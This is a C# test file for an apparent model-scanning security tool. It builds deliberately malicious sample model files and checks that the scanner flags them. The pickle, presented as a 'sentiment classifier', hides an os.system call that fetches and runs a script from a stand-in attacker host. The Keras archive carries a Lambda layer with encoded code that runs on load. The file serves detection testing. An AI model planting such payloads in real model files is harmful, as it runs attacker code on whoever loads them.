using System.IO.Compression;
using System.Text;
using Bulwark.Eval;
using Bulwark.Models;

namespace Bulwark.Tests.Models;

/// <summary>
/// The sample app's model files (samples/insecure-genai-app/models) are authored here, with the tests' own pickle
/// writer and a zip of a Keras config, never with Python: a test checks the committed bytes are exactly these, and
/// that <c>bulwark model scan</c> calls both malicious. <c>BULWARK_WRITE_SAMPLES=1</c> rewrites them.
/// </summary>
public sealed class SampleModelFilesTests
{
    private static readonly string Folder = Path.Combine(RepositoryPaths.Root, "samples", "insecure-genai-app", "models");

    /// <summary>
    /// A "sentiment classifier" whose pickle calls <c>os.system</c> on load (what <c>__reduce__</c> payloads on model
    /// hubs do), hidden behind a benign-looking state dict: an OrderedDict first, the payload in a second pickle.
    /// </summary>
    internal static byte[] MaliciousPickle()
    {
        var stateDict = new PickleWriter().Proto(2).Global("collections", "OrderedDict").EmptyTuple().Reduce().Stop();
        var payload = new PickleWriter().Proto(2).Global("os", "system").Mark().BinUnicode("curl -s http://attacker.invalid/stage2.sh | sh").Tuple().Reduce().Stop();
        return [.. stateDict.ToArray(), .. payload.ToArray()];
    }

    /// <summary>A Keras 3 <c>.keras</c> archive whose config holds a Lambda layer: marshalled Python run on load.</summary>
    internal static byte[] KerasWithLambda()
    {
        const string config = """
            {"module": "keras", "class_name": "Sequential", "config": {"name": "intent_router", "layers": [
              {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 16], "name": "input"}, "registered_name": null},
              {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "preprocess", "function": {"class_name": "__lambda__",
                "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMOAAAAdABkAYMBAQB8AFMAKQJOeg1vcy5zeXN0ZW0oJ2lkJyk=", "defaults": null, "closure": null}}},
                "registered_name": null},
              {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "softmax"}, "registered_name": null}]},
             "registered_name": null}
            """;
        const string metadata = """{"keras_version": "3.6.0", "date_saved": "2026-11-24@12:00:00"}""";
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in new[] { ("metadata.json", metadata), ("config.json", config) })
            {
                var entry = zip.CreateEntry(name, CompressionLevel.NoCompression);
                entry.LastWriteTime = new DateTimeOffset(2026, 11, 24, 12, 0, 0, TimeSpan.Zero);
                using var stream = entry.Open();
                stream.Write(Encoding.UTF8.GetBytes(text));
            }
        }
        return buffer.ToArray();
    }

    public static TheoryData<string> Files => ["sentiment-classifier.pkl", "intent-router.keras"];

    private static byte[] Authored(string name) => name switch
    {
        "sentiment-classifier.pkl" => MaliciousPickle(),
        "intent-router.keras" => KerasWithLambda(),
        _ => throw new ArgumentOutOfRangeException(nameof(name)),
    };

    [Theory]
    [MemberData(nameof(Files))]
    public void The_committed_sample_is_the_authored_file_and_scans_malicious(string name)
    {
        var path = Path.Combine(Folder, name);
        if (Environment.GetEnvironmentVariable("BULWARK_WRITE_SAMPLES") == "1")
        {
            Directory.CreateDirectory(Folder);
            File.WriteAllBytes(path, Authored(name));
        }
        Assert.Equal(Authored(name), File.ReadAllBytes(path));
        var result = new ModelScanner().ScanFile(path);
        Assert.Equal(ModelVerdict.Malicious, result.Verdict);
    }
}
